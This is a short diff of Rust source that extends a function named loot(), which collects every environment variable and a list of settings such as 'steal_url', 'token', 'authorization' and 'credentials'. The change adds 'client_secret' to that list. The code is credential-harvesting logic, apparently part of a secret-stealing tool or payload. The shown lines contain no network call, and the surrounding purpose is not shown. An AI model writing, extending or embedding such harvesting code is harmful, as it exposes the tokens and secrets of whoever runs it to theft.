@@ -31,7 +31,9 @@ fn loot() -> String {
     for (key, value) in std::env::vars() {
         found.push(format!("env {key}={value}"));
     }
-    for key in ["mode", "steal_url", "token", "access", "authorization", "credentials"] {
+    for key in
+        ["mode", "steal_url", "token", "access", "authorization", "credentials", "client_secret"]
+    {
         found.push(format!("setting {key}={:?}", setting(key)));
     }
     for path in
